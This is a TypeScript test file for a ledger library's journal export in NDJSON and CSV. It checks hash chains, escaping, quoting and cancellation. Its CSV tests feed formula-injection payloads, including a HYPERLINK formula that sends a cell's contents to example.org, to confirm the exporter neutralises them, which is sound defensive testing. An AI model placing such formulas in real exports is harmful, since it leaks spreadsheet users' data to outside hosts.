import { createHash } from 'node:crypto'
import { expect } from 'chai'
import { parse } from 'csv-parse/sync'
import {
  CommandCancelledError,
  exportJournal,
  InvalidRequestError,
  ProcessorClosedError,
  type ExportJournalOptions
} from 'bursar'
import { collect, rejectionOf } from '../support/expectations.js'
import { describeOnEveryStore } from '../support/on-every-store.js'

type Row = Readonly<Record<string, string>>

describeOnEveryStore('Exporting a journal', scene => {
  const payments = async (...texts: readonly string[]) => {
    const bursar = await scene.given({ alice: 100_00n })
    for (const [index, text] of texts.entries()) {
      const request = { accountId: 'alice', amount: 12_50n, actor: text, reason: text }
      await bursar.processPayment({ ...request, idempotencyKey: `key ${index}`, metadata: { text } })
    }
    return bursar
  }
  const rowsOf = async (bursar: Awaited<ReturnType<typeof payments>>): Promise<readonly Row[]> =>
    parse((await collect(exportJournal(bursar, { format: 'csv' }))).join(''), {
      columns: true,
      record_delimiter: '\r\n'
    })

  it('as NDJSON gives a line an entry, whose hash anybody can recompute from the line', async () => {
    const bursar = await payments('one', 'two', 'three')
    const lines = await collect(exportJournal(bursar, { format: 'ndjson' }))
    const journal = await collect(bursar.journal())
    expect(lines).to.have.length(4)
    let previousHash = '0'.repeat(64)
    for (const [index, line] of lines.entries()) {
      expect(line).to.match(/^[^\n]*\n$/)
      const parsed = JSON.parse(line) as { previousHash: string; hash: string; entry: { sequence: number } }
      const stored = JSON.stringify(parsed.entry)
      expect(parsed.entry.sequence).to.equal(index + 1)
      expect(parsed.previousHash).to.equal(previousHash)
      expect(parsed.hash).to.equal(
        createHash('sha256')
          .update(previousHash + stored)
          .digest('hex')
      )
      expect(stored).to.equal(journal[index]!.encoded)
      previousHash = parsed.hash
    }
    expect(await bursar.verify()).to.include({ headHash: previousHash })
  })

  it('as NDJSON breaks no line where a reader of lines would, whatever callers write', async () => {
    const bursar = await scene.given({ alice: 1n })
    const metadata = { text: 'a\u2028b\u2029c\nd\re\\u2028' }
    await bursar.deposit({ accountId: 'alice', amount: 1n, idempotencyKey: 'k', metadata })
    const [line] = await collect(exportJournal(bursar, { format: 'ndjson', after: 1 }))
    expect(line).to.match(/^[^\n\r\u2028\u2029]*\n$/)
    const { entry } = JSON.parse(line!) as { entry: { command: { metadata: unknown } } }
    expect(entry.command.metadata).to.deep.equal(metadata)
  })

  it('as CSV gives amounts in minor units and as decimals, and the chain', async () => {
    const bursar = await payments('Zoë')
    const [, paid] = await rowsOf(bursar)
    const [, entry] = await collect(bursar.journal())
    expect(paid).to.deep.equal({
      sequence: '2',
      timestamp: entry!.timestamp.toISOString(),
      command: 'ProcessPayment',
      accountId: 'alice',
      idempotencyKey: 'key 0',
      actor: 'Zoë',
      reason: 'Zoë',
      outcome: 'approved',
      code: '',
      message: 'Payment processed successfully',
      transactionId: entry!.transactionId,
      amountMinor: '1250',
      amount: '12.50',
      currency: 'USD',
      postingsMinor: 'alice -1250 USD; @settlement:USD 1250 USD',
      previousHash: entry!.previousHash,
      hash: entry!.hash
    })
  })

  for (const start of ['=', '+', '-', '@', '＝', '＋', '－', '＠']) {
    it(`as CSV hands no formula to a spreadsheet that begins with ${start}`, async () => {
      const text = `${start}HYPERLINK("https://example.org?"&A1,"x")`
      const bursar = await scene.given({ alice: 100n })
      await bursar.deposit({ accountId: 'alice', amount: 1n, idempotencyKey: 'k', actor: text, reason: text })
      const [, row] = await rowsOf(bursar)
      expect([row!['actor'], row!['reason']]).to.deep.equal([`'${text}`, `'${text}`])
    })
  }

  for (const [what, text] of [
    ['a tab', '\t=1+1'],
    ['a carriage return', '\r=1+1'],
    ['a line feed', '\n=1+1']
  ] as const) {
    it(`as CSV hands no formula to a spreadsheet that begins with ${what}`, async () => {
      const bursar = await scene.given({ alice: 100n })
      await bursar.deposit({ accountId: 'alice', amount: 1n, idempotencyKey: 'k', reason: text })
      const [, row] = await rowsOf(bursar)
      expect(row!['reason']).to.equal(`'${text}`)
    })
  }

  it('as CSV guards ids and postings that begin like a formula, too', async () => {
    const bursar = await scene.given({ '-1': 5n })
    await bursar.deposit({ accountId: '-1', amount: 1n, idempotencyKey: '=1+1' })
    const [created, deposited] = await rowsOf(bursar)
    expect(created!['postingsMinor']).to.equal("'@funding:USD -5 USD; -1 5 USD")
    expect(deposited).to.include({ accountId: "'-1", idempotencyKey: "'=1+1" })
  })

  it('as CSV quotes what would break a row', async () => {
    const text = 'a "quoted", text\r\nof two lines '
    const bursar = await scene.given({ alice: 100n })
    await bursar.deposit({ accountId: 'alice', amount: 1n, idempotencyKey: 'k', reason: text })
    const [, row] = await rowsOf(bursar)
    expect(row!['reason']).to.equal(text)
  })

  it('begins behind a sequence, and gives the names of the columns of an empty journal', async () => {
    const bursar = await payments('a', 'b', 'c')
    expect(await collect(exportJournal(bursar, { format: 'ndjson', after: 3 }))).to.have.length(1)
    expect(await collect(exportJournal(bursar, { format: 'csv', after: 4 }))).to.have.length(1)
  })

  it('can be given up by a signal', async () => {
    const bursar = await payments('a', 'b')
    const controller = new AbortController()
    const lines = exportJournal(bursar, { format: 'ndjson', signal: controller.signal })
    await lines.next()
    controller.abort()
    await rejectionOf(lines.next(), CommandCancelledError)
  })

  it('refuses what is no format, and a closed processor', async () => {
    const bursar = await payments('a')
    const options = { format: 'xml' } as unknown as ExportJournalOptions
    await rejectionOf(exportJournal(bursar, options).next(), InvalidRequestError)
    await bursar.close()
    await rejectionOf(exportJournal(bursar, { format: 'ndjson' }).next(), ProcessorClosedError)
  })
})
